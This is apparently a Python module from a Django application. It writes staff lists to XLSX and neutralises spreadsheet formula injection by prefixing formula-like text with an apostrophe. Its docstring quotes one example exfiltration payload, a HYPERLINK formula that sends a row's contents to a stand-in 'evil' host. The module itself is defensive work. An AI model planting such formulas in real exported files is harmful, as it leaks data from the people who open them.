"""Spreadsheet cells that cannot become formulas (OWASP "CSV injection"), for every XLSX export.

A text that begins with = + - @ (or a tab / carriage return, which Excel strips before it reads the
rest) would be taken as a formula by openpyxl and by the spreadsheet a user opens the file in:
`=HYPERLINK("http://evil/?"&A1, "点击")` as an employer's name leaks the row. Such a text is written
as text, prefixed with an apostrophe, the prefix a spreadsheet itself uses for "this is text".
Numbers, dates and None are written as they are.

`rows_xlsx` writes any list as a sheet through these cells (cases.web.list_export serves it).
"""

from __future__ import annotations

import io
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from .values import LOCAL_TZ

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_value(value):
    """`value` for a spreadsheet cell: a formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_cell(ws, value) -> Cell:
    """A write-only cell holding `value` (see safe_value); a text is always of type text, never formula."""
    cell = WriteOnlyCell(ws, value=safe_value(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def safe_row(ws, values) -> list:
    """A row for ws.append: every plain value made safe; cells already built are kept as they are."""
    return [v if isinstance(v, Cell) else safe_cell(ws, v) for v in values]


# --- the XLSX of a list (issue 14 item 6): one mechanism for every staff list --------------------------------

EXPORT_PARAM = "format"
EXPORT_VALUE = "xlsx"
PAGING_PARAMS = ("page", "before", "after", EXPORT_PARAM)  # what the export link drops from the query string
MONEY_FORMAT = "#,##0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


@dataclass(frozen=True)
class Column:
    """One column of a list's export: its header (Chinese, as the page shows it), how a row gives its
    value, its width in characters."""

    header: str
    value: Callable[[Any], Any]
    width: int = 16


def _cell(ws, value) -> WriteOnlyCell:
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value, LOCAL_TZ)
        value = value.replace(tzinfo=None)
    if isinstance(value, bool):
        value = "是" if value else "否"
    cell = safe_cell(ws, value)
    if isinstance(value, Decimal):
        cell.number_format = MONEY_FORMAT
    elif isinstance(value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell.number_format = DATE_FORMAT
    return cell


def rows_xlsx(rows: Iterable, columns: Sequence[Column], *, title: str) -> bytes:
    """The rows as one sheet named `title`: a bold header row of the columns' headers, then one line a row,
    each text safe from formula injection (safe_cell), amounts as numbers, times in China's time zone."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title[:31])
    ws.freeze_panes = "A2"
    for index, column in enumerate(columns, start=1):
        ws.column_dimensions[get_column_letter(index)].width = column.width
    bold = Font(bold=True)
    header = []
    for column in columns:
        cell = WriteOnlyCell(ws, value=str(column.header))
        cell.font = bold
        header.append(cell)
    ws.append(header)
    for row in rows:
        ws.append([_cell(ws, column.value(row)) for column in columns])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def export_query(query) -> str:
    """The query string of a list's export: its filters (a QueryDict) without the paging, plus format=xlsx."""
    params = query.copy()
    for key in PAGING_PARAMS:
        params.pop(key, None)
    params[EXPORT_PARAM] = EXPORT_VALUE
    return params.urlencode()
